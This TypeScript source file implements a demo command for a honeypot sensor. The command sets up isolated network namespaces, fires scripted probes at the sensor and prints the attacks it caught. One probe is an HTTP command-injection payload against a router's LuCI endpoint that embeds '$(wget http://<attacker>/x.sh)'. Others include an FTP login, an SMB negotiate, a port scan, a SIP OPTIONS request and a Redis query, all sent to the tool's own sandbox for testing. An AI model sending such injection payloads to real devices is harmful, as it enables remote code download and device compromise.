import { copyFileSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { HoneytrapError } from '../core/errors.js'
import { createNetnsPair, type NetnsPair } from '../netns/netns-pair.js'
import { runAttackPlan, startSensorProcess, type SensorProcess } from '../netns/sensor-process.js'
import { formatAttackTable } from './attack-table.js'
import { listAttacks, openAttackDatabase } from '../store/attack-query.js'
import { parseFlags } from './usage.js'

// An SMB2 NEGOTIATE request in a NetBIOS session header (MS-SMB2 2.2.3), dialects 2.0.2 and 2.1: what scanners send.
function smbNegotiate(): Buffer {
  const header = Buffer.alloc(64)
  header.write('\xfeSMB', 0, 'latin1')
  header.writeUInt16LE(64, 4) // StructureSize
  const body = Buffer.alloc(36 + 4)
  body.writeUInt16LE(36, 0) // StructureSize
  body.writeUInt16LE(2, 2) // DialectCount
  body.writeUInt16LE(1, 4) // SecurityMode: signing enabled
  body.writeUInt16LE(0x0202, 36)
  body.writeUInt16LE(0x0210, 38)
  const smb = Buffer.concat([header, body])
  const nb = Buffer.alloc(4)
  nb.writeUInt32BE(smb.length, 0)
  return Buffer.concat([nb, smb])
}

function demoPlan(pair: NetnsPair): unknown[] {
  const host = pair.sensorV4
  const sipOptions = [
    `OPTIONS sip:100@${host} SIP/2.0`,
    `Via: SIP/2.0/UDP ${pair.attackerV4}:5060;branch=z9hG4bK-demo`,
    `From: <sip:scanner@${pair.attackerV4}>;tag=1`,
    `To: <sip:100@${host}>`,
    'Call-ID: demo-1',
    'CSeq: 1 OPTIONS',
    'Max-Forwards: 70',
    'Content-Length: 0',
    '',
    '',
  ].join('\r\n')
  return [
    { type: 'tcp', host, port: 80, send: `GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget%20http://${pair.attackerV4}/x.sh) HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: demo\r\n\r\n`, waitMs: 1_500 },
    { type: 'tcp', host, port: 21, send: 'USER anonymous\r\nPASS guest@example.org\r\n', waitMs: 1_500 },
    { type: 'tcp', host, port: 445, sendBase64: smbNegotiate().toString('base64'), waitMs: 1_500 },
    { type: 'scan', host, from: 10_000, to: 10_199, concurrency: 20, timeoutMs: 2_000, deadlineMs: 30_000 },
    { type: 'udp', host, port: 5060, sendBase64: Buffer.from(sipOptions).toString('base64'), waitMs: 1_000 },
    { type: 'tcp', host: pair.sensorV6, port: 6379, send: 'INFO\r\n', waitMs: 1_500 },
  ]
}

/** `honeytrap-ts demo`: a sensor in a namespace it makes, scripted attacks from another, a summary, and clean-up. */
export async function runDemoCommand(args: readonly string[]): Promise<number> {
  const { values } = parseFlags('demo', args, { 'keep-db': { type: 'string' } })
  if (process.getuid?.() !== 0) throw new HoneytrapError('HT_ERR_NOT_ROOT', 'demo needs root to create network namespaces (try: sudo honeytrap-ts demo)')
  const dir = mkdtempSync(join(tmpdir(), 'honeytrap-demo-'))
  const dbPath = join(dir, 'demo.db')
  const configPath = join(dir, 'demo.yaml')
  // Short timeouts so the demo finishes in seconds; everything else is the embedded default.
  writeFileSync(configPath, 'responder:\n  idleTimeoutMs: 1500\nudp:\n  sessionIdleMs: 1000\n')
  let pair: NetnsPair | null = null
  let sensor: SensorProcess | null = null
  const say = (line: string): void => void process.stdout.write(`${line}\n`)
  try {
    pair = await createNetnsPair({ label: 'demo' })
    say(`created namespaces ${pair.sensorNs} (sensor ${pair.sensorV4}, ${pair.sensorV6}) and ${pair.attackerNs} (attacker ${pair.attackerV4})`)
    sensor = await startSensorProcess(pair, ['--config', configPath, '--db', dbPath, '--log-level', 'info'])
    say(`sensor running (pid ${sensor.pid}), capture rules installed inside ${pair.sensorNs}`)
    say('attacking: HTTP exploit with a download URL, FTP login, SMB negotiate, a 200-port scan, a SIP probe over UDP, Redis over IPv6')
    const results = await runAttackPlan(pair, demoPlan(pair))
    const scan = results.find((r) => r['type'] === 'scan')
    if (scan !== undefined) say(`scan: ${String(scan['open'])} of 200 ports answered, ${String(scan['refused'])} refused, ${String(scan['timeout'])} timed out`)
    await new Promise((r) => setTimeout(r, 2_500)) // let idle sessions end so they are recorded as attacks, not shutdowns
    const code = await sensor.stop('SIGTERM')
    sensor = null
    say(`sensor stopped (exit ${String(code)}); what it caught:`)
    const db = openAttackDatabase(dbPath)
    try {
      const page = listAttacks(db, { limit: 1_000 })
      const interesting = page.attacks.filter((a) => a.dst_port < 10_000 || a.dst_port > 10_199)
      say(formatAttackTable(interesting, { color: process.stdout.isTTY }))
      say(`${page.total} attacks stored (${page.total - interesting.length} of them the scan's empty connections, not shown)`)
    } finally {
      db.close()
    }
    if (values['keep-db'] !== undefined) {
      copyFileSync(dbPath, values['keep-db'])
      say(`database kept at ${values['keep-db']}`)
    }
    return 0
  } finally {
    if (sensor !== null) await sensor.stop('SIGKILL')
    if (pair !== null) await pair.destroy()
    rmSync(dir, { recursive: true, force: true })
    say('namespaces and temporary files removed')
  }
}
